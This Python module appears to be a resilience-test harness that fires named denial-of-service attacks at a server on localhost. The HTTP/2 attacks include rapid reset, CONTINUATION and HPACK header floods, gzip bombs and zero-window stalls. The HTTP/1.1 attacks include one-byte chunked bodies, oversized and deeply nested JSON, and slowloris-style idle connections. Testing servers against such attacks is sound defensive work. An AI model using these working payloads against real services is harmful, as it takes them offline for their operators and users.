"""Sends what attacks a port, in a process of its own: python -m attack.senders NAME PORT

A sender is called again and again, for ever: it connects at once when it is shut out. One that fills something and
then holds it prints ``sent``, and waits to be ended.
"""

from __future__ import annotations

import contextlib
import functools
import random
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable

from attack.wire import (
    CONTINUATION,
    DATA,
    EMPTY_MESSAGE,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    SETTINGS,
    WINDOW,
    PatientConnection,
    RawConnection,
    fields,
    frame,
    literal,
    message,
)

Sender = Callable[[int], None]
SENDERS: dict[str, Sender] = {}
_MIB = 1024 * 1024
_OUTPUTS = "/v2/users/me/apps/main/models/m/outputs"
STREAM = "/clarifai.api.V2/StreamModelOutputs"


def sender(name: str) -> Callable[[Sender], Sender]:
    """Put a sender into the table."""

    def enter(send: Sender) -> Sender:
        SENDERS[name] = send
        return send

    return enter


def _hold(*connections: object) -> None:
    """Say that all was sent, and hold it until this process is ended."""
    print("sent", flush=True)
    while True:
        time.sleep(60)


@sender("random frames")
def random_frames(port: int) -> None:
    draw = random.Random()
    connection = RawConnection(port)
    connection.read_past()
    for _ in range(20):
        kind, stream_id = draw.choice((*range(10), 0x16, 0xFF)), draw.choice((0, 1, 2, 3, 5, 1 << 30))
        payload = draw.randbytes(draw.choice((0, 1, 4, 5, 8, 40, 300, 20_000)))
        connection.send(frame(kind, draw.randrange(256), stream_id, payload))
    connection.close()


@sender("made you reset")
def made_you_reset(port: int) -> None:
    connection = RawConnection(port)
    connection.read_past()
    while True:
        said = b""
        for _ in range(100):
            stream_id, begin = connection.headers(fields(token=None))
            said += begin + frame(WINDOW, 0, stream_id, bytes(4))
        connection.send(said)


def _continuations(port: int, piece: bytes) -> None:
    connection = RawConnection(port)
    connection.read_past()
    stream_id, begin = connection.headers(fields(token=None))
    connection.send(begin[:4] + b"\0" + begin[5:] + frame(CONTINUATION, 0, stream_id, piece))
    while True:
        connection.send(frame(CONTINUATION, 0, stream_id, piece) * 10)


SENDERS["continuations"] = functools.partial(_continuations, piece=literal("a", "b" * 15_900))
SENDERS["empty continuations"] = functools.partial(_continuations, piece=b"")


@sender("header bomb")
def header_bomb(port: int) -> None:
    """Put 3,900 bytes into the table of fields, and name them 16,000 times."""
    connection = RawConnection(port)
    connection.read_past()
    value = b"x" * 3900
    bomb = b"\x40\x01a\x7f" + bytes([(len(value) - 127) & 0x7F | 0x80, (len(value) - 127) >> 7]) + value
    stream_id, begin = connection.headers(fields(token=None))
    block = begin[9:] + bomb + b"\xbe" * 12_000
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block))
    time.sleep(0.01)


def _unread(port: int, said: bytes) -> None:
    connection = RawConnection(port, seconds=2)
    while True:
        connection.send(said * 1000)


SENDERS["pings that read no answer"] = functools.partial(_unread, said=frame(PING, 0, 0, bytes(8)))
SENDERS["settings that read no answer"] = functools.partial(
    _unread, said=frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))
)


@sender("large headers")
def large_headers(port: int) -> None:
    connection = RawConnection(port)
    connection.read_past()
    for _ in range(1_632):
        stream_id, begin = connection.headers(fields(token=None))
        block = begin[9:] + b"".join(literal(f"h{number}", "v" * 15_000) for number in range(4))
        pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        said = frame(HEADERS, 0, stream_id, pieces[0])
        said += b"".join(frame(CONTINUATION, 0, stream_id, each) for each in pieces[1:-1])
        connection.send(said + frame(CONTINUATION, END_HEADERS, stream_id, pieces[-1]))
    _hold(connection)


@sender("zero window")
def zero_window(port: int) -> None:
    connection = RawConnection(port, settings=struct.pack(">HI", 4, 0))
    connection.read_past()
    for _ in range(1_000):
        stream_id, begin = connection.headers(fields())
        connection.send(begin + frame(DATA, END_STREAM, stream_id, EMPTY_MESSAGE))
    _hold(connection)


@sender("ten thousand streams")
def ten_thousand_streams(port: int) -> None:
    connection = RawConnection(port)
    connection.read_past()
    for _ in range(100):
        connection.send(b"".join(connection.headers(fields(token=None))[1] for _ in range(100)))
    _hold(connection)


def _half_messages(port: int, token: str | None) -> None:
    """Keep to the windows, as long as the server gives more."""
    connection = PatientConnection(port)
    for _ in range(20):
        stream_id = connection.begin(fields(token=token))
        connection.send(frame(DATA, 0, stream_id, struct.pack(">BI", 0, 100 * _MIB)))
        connection.send_data(stream_id, 40 * _MIB)
    _hold(connection)


SENDERS["half messages"] = functools.partial(_half_messages, token=None)
SENDERS["half messages with a token"] = functools.partial(_half_messages, token="any-token")


@functools.cache
def _zeros() -> bytes:
    """Return 120 MiB of zeros in some 120 KB of gzip."""
    packing = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(packing.compress(bytes(_MIB)) for _ in range(120)) + packing.flush()


def _bomb(port: int, path: str, token: str | None, messages: int) -> None:
    packed = _zeros()
    connection = RawConnection(port)
    connection.read_past()
    stream_id = connection.begin(fields(path, token, ("grpc-encoding", "gzip")))
    said = message(packed, packed=True) * messages
    for at in range(0, len(said), 16_384):
        connection.send(frame(DATA, 0, stream_id, said[at : at + 16_384]))
    connection.send(frame(DATA, END_STREAM, stream_id))
    time.sleep(0.5)
    print("sent", flush=True)


SENDERS["gzip bomb"] = functools.partial(_bomb, path="/clarifai.api.V2/GetUser", token=None, messages=1)
SENDERS["gzip bombs on a stream"] = functools.partial(_bomb, path=STREAM, token="any-token", messages=8)


@sender("empty messages")
def empty_messages(port: int) -> None:
    connection = RawConnection(port, seconds=2)
    connection.read_past()
    stream_id = connection.begin(fields(STREAM, "any-token"))
    while True:
        connection.send(frame(DATA, 0, stream_id, EMPTY_MESSAGE * 3_000))


# HTTP/1.1


def _http1(port: int, head: str, *, seconds: float = 60) -> socket.socket:
    connection = socket.create_connection(("127.0.0.1", port), timeout=seconds)
    connection.sendall(f"{head}\r\nhost: localhost\r\nauthorization: Key wrong token\r\n".encode())
    return connection


@sender("chunks of one byte")
def one_byte_chunks(port: int) -> None:
    connection = _http1(port, f"POST {_OUTPUTS} HTTP/1.1")
    connection.sendall(b"transfer-encoding: chunked\r\n\r\n")
    with contextlib.suppress(OSError):
        while True:
            connection.sendall(b"1\r\nx\r\n" * 10_000)


@sender("chunks of one byte with a token")
def one_byte_chunks_of_a_user(port: int) -> None:
    connection = socket.create_connection(("127.0.0.1", port), timeout=60)
    head = f"POST {_OUTPUTS} HTTP/1.1\r\nhost: localhost\r\nauthorization: Key any-token\r\n"
    connection.sendall(f"{head}transfer-encoding: chunked\r\n\r\n".encode())
    with contextlib.suppress(OSError):
        while True:
            connection.sendall(b"1\r\nx\r\n" * 10_000)


@sender("bodies that break off")
def bodies_that_break_off(port: int) -> None:
    for _ in range(4):
        connection = socket.create_connection(("127.0.0.1", port), timeout=60)
        head = f"POST {_OUTPUTS} HTTP/1.1\r\nhost: localhost\r\nauthorization: Key any-token\r\n"
        connection.sendall(f"{head}content-length: {101 * _MIB}\r\n\r\n".encode())
        with contextlib.suppress(OSError):
            for _ in range(100):
                connection.sendall(bytes(_MIB))
        connection.close()


def _json(port: int, body: bytes, token: str) -> None:
    connection = socket.create_connection(("127.0.0.1", port), timeout=300)
    head = f"POST {_OUTPUTS} HTTP/1.1\r\nhost: localhost\r\nauthorization: Key {token}\r\n"
    with contextlib.suppress(OSError):
        connection.sendall(f"{head}content-type: application/json\r\ncontent-length: {len(body)}\r\n\r\n".encode())
        connection.sendall(body)
        connection.recv(1 << 16)
    connection.close()


_NAMES = b"{" + b",".join(b'"n%05d":1' % number for number in range(40_000)) + b',"n00000":1}'
_ITEMS = b'{"inputs":[' + b"{}," * 2_000_000 + b"{}]}"
SENDERS["a name that stands twice"] = functools.partial(_json, body=_NAMES, token="any-token")
SENDERS["two million items with a wrong token"] = functools.partial(_json, body=_ITEMS, token="wrong token")
SENDERS["two million items"] = functools.partial(_json, body=_ITEMS, token="any-token")
SENDERS["deep JSON"] = functools.partial(_json, body=b"[" * 5_000_000, token="any-token")


def _idle(port: int, said: bytes) -> None:
    held: list[socket.socket] = []
    for _ in range(400):
        with contextlib.suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", port), timeout=5)
            held.append(connection)
            connection.sendall(said)
    _hold(held)


SENDERS["connections that say nothing"] = functools.partial(_idle, said=b"")
SENDERS["connections with half a head"] = functools.partial(_idle, said=b"GET / HTTP/1.1\r\nho")
SENDERS["connections of HTTP/2 without settings"] = functools.partial(
    _idle, said=b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
)


def main() -> None:
    name, port = sys.argv[1], int(sys.argv[2])
    if name.startswith("flood "):
        from benchmarks.floods import attack

        attack(name.removeprefix("flood "), port)
    while True:
        with contextlib.suppress(OSError):
            SENDERS[name](port)
        time.sleep(0.001)


if __name__ == "__main__":
    main()
